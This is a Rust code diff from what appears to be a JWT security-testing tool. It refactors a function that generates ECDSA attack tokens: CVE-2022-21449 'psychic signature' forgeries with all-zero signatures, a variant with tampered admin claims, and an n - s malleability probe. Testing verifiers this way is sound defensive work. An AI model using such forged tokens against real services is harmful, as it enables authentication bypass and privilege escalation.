@@ -52,23 +52,23 @@ const PSYCHIC_REF: &str = "CVE-2022-21449 (\"psychic signatures\" in Java's ECDS
 pub(super) fn variants(
     orig: &Original,
     notes: &mut Vec<String>,
-) -> Result<Vec<Draft>, AttackError> {
+    out: &mut dyn FnMut(Draft),
+) -> Result<(), AttackError> {
     let Family::Ec(curve) = orig.alg.family() else {
-        return Ok(Vec::new());
+        return Ok(());
     };
     let len = curve.coordinate_len();
     let zeros = vec![0u8; 2 * len];
-    let mut out = vec![
+    out(
         Draft::new(
             "ecdsa-psychic-signature",
             Group::Ecdsa,
             format!("{} psychic signature (r = s = 0), original claims", orig.alg),
-            format!(
-                "{}.{}.{}",
-                orig.header_segment,
-                orig.payload_segment,
-                b64::encode(&zeros)
-            ),
+            super::dotted(&[
+                &orig.header_segment,
+                &orig.payload_segment,
+                &b64::encode(&zeros),
+            ]),
         )
         .text(
             format!(
@@ -78,19 +78,18 @@ pub(super) fn variants(
             PSYCHIC_MUST,
             PSYCHIC_REF,
         ),
-    ];
+    );
     if let Some((payload, what)) = claims::admin_payload(orig)? {
-        out.push(
+        out(
             Draft::new(
                 "ecdsa-psychic-signature-tampered",
                 Group::Ecdsa,
                 format!("{} psychic signature (r = s = 0), {what}", orig.alg),
-                format!(
-                    "{}.{}.{}",
-                    orig.header_segment,
-                    b64::encode(payload.as_bytes()),
-                    b64::encode(&zeros)
-                ),
+                super::dotted(&[
+                    &orig.header_segment,
+                    &b64::encode(payload.as_bytes()),
+                    &b64::encode(&zeros),
+                ]),
             )
             .text(
                 format!("The same all-zero signature over tampered claims ({what}): with r = s = 0 the claims can be anything, which is what makes the bug critical."),
@@ -114,7 +113,7 @@ pub(super) fn variants(
             "the malleability probe is skipped: the original signature is not a {}-byte r || s with 0 < s < n",
             2 * len
         ));
-        return Ok(out);
+        return Ok(());
     };
     let half_was_low = s.is_some_and(|s| s < ns.as_slice());
     let now_side = if half_was_low { "high-S" } else { "low-S" };
@@ -124,12 +123,11 @@ pub(super) fn variants(
         "ecdsa-malleability-n-minus-s",
         Group::Ecdsa,
         format!("original token with s replaced by n - s (now {now_side}); valid by design"),
-        format!(
-            "{}.{}.{}",
-            orig.header_segment,
-            orig.payload_segment,
-            b64::encode(&signature)
-        ),
+        super::dotted(&[
+            &orig.header_segment,
+            &orig.payload_segment,
+            &b64::encode(&signature),
+        ]),
     )
     .text(
         format!(
@@ -139,8 +137,8 @@ pub(super) fn variants(
         "ECDSA signature malleability (SEC 1 v2 section 4.1; the low-S rule of Bitcoin BIP 62 and BIP 146); RFC 7518 section 3.4 for the r || s encoding",
     );
     probe.expected_valid = true;
-    out.push(probe);
-    Ok(out)
+    out(probe);
+    Ok(())
 }
 
 #[cfg(test)]
